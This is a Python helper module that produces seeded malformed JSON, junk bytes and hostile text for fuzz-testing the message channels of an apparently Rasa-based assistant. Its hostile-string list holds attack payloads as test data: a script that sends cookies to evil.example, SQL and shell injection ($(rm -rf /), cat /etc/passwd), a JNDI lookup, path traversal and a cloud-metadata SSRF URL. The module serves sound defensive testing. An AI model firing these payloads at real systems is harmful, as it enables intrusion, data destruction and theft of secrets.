"""Seeded generators of malformed and hostile inputs for the channel fuzz suite (tests/test_fuzz.py).

Everything here is a pure function of a ``random.Random``: the same seed
gives the same inputs, in the same order, on every machine. Nothing here
talks to a server.

The pieces:

* ``random_json`` / ``other_type``: JSON values of every kind, including the
  awkward ones (huge integers, NaN, -0.0, deep nesting, hostile strings);
* ``hostile_text``: well-formed messages meant to trip the assistant
  (markup, SQL, Rasa's ``/intent{...}`` syntax, format strings, bidi
  overrides, control characters, 100 kB of text...);
* ``bad_json`` / ``junk_bytes`` / ``non_object_json``: bodies that are not a
  JSON object;
* ``mutate``: deletes keys, swaps values for JSON of another type, wraps,
  stringifies... at random places of a real payload, and says what it did.
"""
from __future__ import annotations

import copy
import json
import math
import os
import random
import string
from typing import Any, Callable, Dict, List, Optional, Sequence, Tuple

DEFAULT_SEED = 20_240_611
SEED_ENV = "FUZZ_SEED"


def fuzz_seed() -> int:
    """The run's seed: ``FUZZ_SEED`` when set, else a fixed default."""
    raw = os.environ.get(SEED_ENV, "").strip()
    return int(raw) if raw else DEFAULT_SEED


def rng_for(seed: int, channel: str) -> random.Random:
    """One generator per channel, so a channel's inputs do not depend on the others' order."""
    return random.Random(f"alliance-fuzz/{seed}/{channel}")


# -- hostile but well-formed text ------------------------------------------------------
HOSTILE_TEXTS: Tuple[str, ...] = (
    # markup and script
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "javascript:alert(1)",
    "<iframe src=\"https://evil.example\"></iframe>",
    "</textarea><b>bold</b>",
    # SQL and shell
    "'; DROP TABLE events; --",
    "1' OR '1'='1",
    "\" OR 1=1 --",
    "Robert'); DELETE FROM people;--",
    "$(rm -rf /)",
    "`cat /etc/passwd`",
    "; shutdown -h now",
    # Rasa's own syntax
    '/greet{"triage":"rupture"}',
    '/greet{"triage": "crisis", "concern": "x"}',
    "/restart",
    "/session_start",
    "/action_restart",
    "/state_safe",
    "/greet@0.99",
    '/inform{"country": "US", "language": "de"}',
    "/nlu_fallback",
    "   /restart   ",
    "/start",
    "/greet{",
    "/",
    "//",
    # format strings and templates
    "{crisis_line_short}",
    "{crisis_line}",
    "{name} {0} {}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% debug %}",
    "%s%s%s%s%n",
    "%x %x %x %p",
    "%(crisis_line)s",
    "{__class__.__mro__}",
    "${jndi:ldap://evil.example/a}",
    # paths, urls
    "../../../../etc/passwd",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "<https://evil.example|click here>",
    "<@U0000000> <!channel> <!here>",
    "&lt;script&gt;&amp;",
    # unicode trouble
    "\u202egnp.exe\u202c",
    "\u200f\u200e\u202a\u202b\u202d\u2066\u2067\u2068\u2069",
    "\u0645\u0639\u0627\u0644\u062c\u064a \u0644\u0627 \u064a\u0633\u0645\u0639\u0646\u064a",
    "\u05d4\u05de\u05d8\u05e4\u05dc \u05e9\u05dc\u05d9",
    "a\x00b",
    "\x00",
    "\x01\x02\x03\x07\x08\x0b\x0c\x0e\x1f\x7f",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "line one\r\nX-Injected: 1\r\n\r\nline two",
    "\ufeff\u200b\u200c\u200d\u2060",
    "\U0001f600",
    "\U0001f600\U0001f622\U0001f62d\U0001f494",
    "\U0001f3f3\ufe0f\u200d\U0001f308" * 40,
    "Z\u0351\u0357\u0308\u0301a\u0352\u0300\u0346l\u0350\u0346g\u0311o\u0360\u0334",
    "\ufffd\ufffe\uffff",
    "\U0010ffff\U000e0001",
    "\u0130\u0131\u017f\u212a",
    # sizes and shapes
    " ",
    "\t\n\r ",
    "a",
    "?" * 2000,
    "hello " * 3000,
    "x" * 100_000,
    # ordinary words next to the hostile ones
    "my therapist <b>ignores</b> me; DROP TABLE sessions;",
    "I feel stuck {crisis_line_short} %s",
    "I want to stop therapy /greet{\"triage\":\"rupture\"}",
)

#: JSON ``"\ud800"``: text no UTF-8 encoder accepts; only JSON escapes can carry it
SURROGATE_TEXTS: Tuple[str, ...] = ("a\ud800b", "\udfff", "my therapist \ud83d is late")


def random_text(rng: random.Random, max_len: int = 40) -> str:
    """Printable junk mixed with code points from many planes (never a lone surrogate)."""
    length = rng.randint(0, max_len)
    out = []
    for _ in range(length):
        pick = rng.random()
        if pick < 0.5:
            out.append(rng.choice(string.printable))
        elif pick < 0.8:
            out.append(chr(rng.randint(0xA0, 0xD7FF)))
        else:
            out.append(chr(rng.randint(0xE000, 0x10FFFF)))
    return "".join(out)


def hostile_text(rng: random.Random) -> str:
    """A hostile message: one of the list, two glued together, or junk around one."""
    roll = rng.random()
    if roll < 0.7:
        return rng.choice(HOSTILE_TEXTS)
    if roll < 0.85:
        return rng.choice(HOSTILE_TEXTS)[:5000] + " " + rng.choice(HOSTILE_TEXTS)[:5000]
    return random_text(rng, 20) + rng.choice(HOSTILE_TEXTS)[:5000] + random_text(rng, 20)


# -- random JSON -------------------------------------------------------------------------
SPECIAL_INTS = (0, 1, -1, 7, 2**31 - 1, 2**31, -2**31 - 1, 2**53 + 1, 2**63, -2**63 - 1, 2**64, 10**30, -10**30)
SPECIAL_FLOATS = (0.0, -0.0, 0.5, 1e-320, 1.7976931348623157e308, -1e308, 42.0)
NON_FINITE = (math.nan, math.inf, -math.inf)
KINDS = ("null", "bool", "int", "float", "str", "list", "dict")


def kind_of(value: Any) -> str:
    if value is None:
        return "null"
    if isinstance(value, bool):
        return "bool"
    if isinstance(value, int):
        return "int"
    if isinstance(value, float):
        return "float"
    if isinstance(value, str):
        return "str"
    if isinstance(value, list):
        return "list"
    return "dict"


def random_json(rng: random.Random, depth: int = 0, kind: Optional[str] = None) -> Any:
    """A JSON value of ``kind`` (or any kind); containers shrink with depth."""
    if kind is None:
        kind = rng.choice(KINDS if depth < 3 else KINDS[:5])
    if kind == "null":
        return None
    if kind == "bool":
        return rng.random() < 0.5
    if kind == "int":
        return rng.choice(SPECIAL_INTS) if rng.random() < 0.6 else rng.randint(-10**9, 10**9)
    if kind == "float":
        roll = rng.random()
        if roll < 0.15:
            return rng.choice(NON_FINITE)
        if roll < 0.6:
            return rng.choice(SPECIAL_FLOATS)
        return rng.uniform(-1e6, 1e6)
    if kind == "str":
        roll = rng.random()
        if roll < 0.4:
            return random_text(rng, 30)
        if roll < 0.7:
            return rng.choice(HOSTILE_TEXTS)[:300]
        return rng.choice(["", " ", "null", "true", "0", "1e3", "-1", "NaN", "[]", "{}", "\x00", "None"])
    if kind == "list":
        return [random_json(rng, depth + 1) for _ in range(rng.randint(0, 4))]
    keys = ["", "id", "text", "message", "sender", "type", "__proto__", "constructor", "$where",
            "chat", "from", "event", "user", "team", "metadata", "\x00", "\u202e", "a" * 300]
    return {(rng.choice(keys) if rng.random() < 0.6 else random_text(rng, 12)): random_json(rng, depth + 1)
            for _ in range(rng.randint(0, 4))}


def other_type(rng: random.Random, value: Any) -> Any:
    """A random JSON value of a kind other than ``value``'s."""
    return random_json(rng, 1, rng.choice([k for k in KINDS if k != kind_of(value)]))


def deep(rng: random.Random, levels: int) -> Any:
    """Nesting deep enough to trouble a recursive parser."""
    value: Any = random_json(rng, 3)
    for _ in range(levels):
        value = [value] if rng.random() < 0.5 else {"a": value}
    return value


def dumps(value: Any) -> bytes:
    """JSON as a client would send it (NaN and Infinity included: Python writes them)."""
    return json.dumps(value).encode()


# -- bodies that are not a JSON object ---------------------------------------------------
def non_object_json(rng: random.Random) -> bytes:
    """Valid JSON, just not an object."""
    choices: List[Callable[[], Any]] = [
        lambda: None, lambda: [], lambda: [{}], lambda: 0, lambda: -1.5, lambda: 10**40, lambda: True,
        lambda: False, lambda: "", lambda: "hello", lambda: [{"sender": "sam", "message": "hi"}],
        lambda: random_json(rng, 1, rng.choice(KINDS[:6])),
    ]
    value = rng.choice(choices)()
    text = dumps(value)
    if rng.random() < 0.2:
        text = rng.choice([b" ", b"\n", b"\t\r\n "]) + text + rng.choice([b"", b" ", b"\n"])
    return text


_BROKEN_JSON: Tuple[bytes, ...] = (
    b"", b" ", b"{", b"}", b"[", b"{]", b"{\"sender\":", b"{\"sender\": \"sam\", \"message\": \"hi\"",
    b"{'sender': 'sam', 'message': 'hi'}", b"{sender: sam}", b"{\"sender\": \"sam\",}", b"[1, 2,]",
    b"{\"a\": 01}", b"{\"a\": .5}", b"{\"a\": +1}", b"{\"a\": 0x10}", b"{\"a\": undefined}", b"{\"a\": True}",
    b"\"unterminated", b"{\"a\": \"\\x41\"}", b"{\"a\": \"\\u12\"}", b"{\"a\": \"\\ud800\\u0041\"}",
    b"// comment\n{}", b"/* c */ {}", b"{} {}", b"{}garbage", b"nul", b"tru", b"NaNa", b"Infinityy",
    b"{\"sender\" \"sam\"}", b"{\"sender\"::\"sam\"}", b"{,}", b"[,]", b"\x00{}", b"{}\x00",
    b"sender=sam&message=hi", b"<xml><sender>sam</sender></xml>", b"---\nsender: sam\n",
    b"\xef\xbb\xbf[\"sender\", \"sam\"]", b"\xff\xfe{\x00}\x00",
    b"\xfe\xff\x00{\x00}", b"{\"message\": \"\xff\xfe\"}", b"{\"message\": \"\xc3\x28\"}",
    b"{\"message\": \"\xed\xa0\x80\"}", b"{\"message\": \"\xf4\x90\x80\x80\"}", b"{\"message\": \"\xc0\xaf\"}",
    b"\x80\x81\x82", b"\xc3", b"{\"sender\": \"s\xe9\", \"message\": \"x\"}",
)


def bad_json(rng: random.Random) -> bytes:
    """Broken JSON text, BOMs, invalid UTF-8 inside JSON, or a valid document cut short."""
    roll = rng.random()
    if roll < 0.55:
        return rng.choice(_BROKEN_JSON)
    if roll < 0.8:  # a real object cut at a random point
        whole = dumps({"sender": "s" + str(rng.randint(1, 10**6)), "message": hostile_text(rng)[:200],
                       "metadata": {"locale": "en-GB"}})
        return whole[:rng.randint(1, max(1, len(whole) - 1))]
    # a real object with one byte swapped for a byte that breaks UTF-8 or the syntax
    whole = bytearray(dumps({"sender": "telegram:1", "message": random_text(rng, 30)}))
    spot = rng.randrange(len(whole))
    whole[spot] = rng.choice([0x80, 0xC0, 0xFF, 0xFE, 0x22, 0x7B, 0x7D, 0x5C, 0x00])
    return bytes(whole)


def junk_bytes(rng: random.Random, max_len: int = 600) -> bytes:
    """Binary: random bytes, a gzip or PNG header, zeros."""
    roll = rng.random()
    length = rng.randint(1, max_len)
    if roll < 0.6:
        return bytes(rng.getrandbits(8) for _ in range(length))
    if roll < 0.75:
        return b"\x1f\x8b\x08\x00" + bytes(rng.getrandbits(8) for _ in range(length))
    if roll < 0.9:
        return b"\x89PNG\r\n\x1a\n" + bytes(rng.getrandbits(8) for _ in range(length))
    return b"\x00" * length


# -- mutations ---------------------------------------------------------------------------
Path = Tuple[Any, ...]


def key_paths(value: Any, prefix: Path = ()) -> List[Path]:
    """Every place in a JSON value (``("message", "chat", "id")``), the root excluded."""
    paths: List[Path] = []
    if isinstance(value, dict):
        for key, child in value.items():
            paths.append(prefix + (key,))
            paths.extend(key_paths(child, prefix + (key,)))
    elif isinstance(value, list):
        for index, child in enumerate(value):
            paths.append(prefix + (index,))
            paths.extend(key_paths(child, prefix + (index,)))
    return paths


def _get(value: Any, path: Path) -> Any:
    for step in path:
        value = value[step]
    return value


def show_path(path: Path) -> str:
    return ".".join(str(step) for step in path) or "<root>"


def mutate_at(rng: random.Random, value: Any, path: Path) -> str:
    """One mutation of ``value`` (in place) at ``path``; returns what was done."""
    parent, key = _get(value, path[:-1]), path[-1]
    old = parent[key]
    op = rng.choice(("delete", "retype", "retype", "null", "wrap", "stringify", "empty", "number", "huge"))
    if op == "delete" and isinstance(parent, dict):
        del parent[key]
        return f"{show_path(path)}: deleted"
    if op == "null":
        parent[key] = None
    elif op == "wrap":
        parent[key] = [old] if rng.random() < 0.7 else {"value": old}
    elif op == "stringify":
        parent[key] = json.dumps(old) if not isinstance(old, str) else old + random_text(rng, 4)
    elif op == "empty":
        parent[key] = rng.choice(["", [], {}, 0])
    elif op == "number":
        parent[key] = rng.choice([True, False, 0, -1, 1.5, 2**63, -2**63 - 1, 10**30, math.nan])
    elif op == "huge":
        parent[key] = rng.choice(["x" * 5000, list(range(300)), {str(i): i for i in range(200)}])
    else:
        parent[key] = other_type(rng, old)
    return f"{show_path(path)}: {op} -> {short(parent[key])}"


def mutate(rng: random.Random, value: Any, count: int = 1,
           focus: Sequence[Path] = (), focus_share: float = 0.5) -> Tuple[Any, List[str]]:
    """A deep copy of ``value`` with ``count`` random mutations, often at ``focus`` paths."""
    result = copy.deepcopy(value)
    done: List[str] = []
    for _ in range(count):
        paths = key_paths(result)
        if not paths:
            break
        wanted = [p for p in focus if p in paths]
        path = rng.choice(wanted) if wanted and rng.random() < focus_share else rng.choice(paths)
        done.append(mutate_at(rng, result, path))
    if rng.random() < 0.15 and isinstance(result, dict):  # a key nobody expects
        junk_key = rng.choice(["__proto__", "constructor", "", "\x00", "update_id ", "x" * 100])
        result[junk_key] = random_json(rng, 1)
        done.append(f"added key {junk_key!r}")
    return result, done


def short(value: Any, width: int = 90) -> str:
    """A one-line excerpt for failure messages."""
    if isinstance(value, bytes):
        text = repr(value[:width])
        return text + (f"...(+{len(value) - width} bytes)" if len(value) > width else "")
    try:
        text = json.dumps(value, ensure_ascii=True)
    except (TypeError, ValueError):
        text = repr(value)
    return text if len(text) <= width else text[:width] + f"...({len(text)} chars)"


def pick_weighted(rng: random.Random, weights: Dict[str, float]) -> str:
    names = list(weights)
    return rng.choices(names, [weights[n] for n in names])[0]
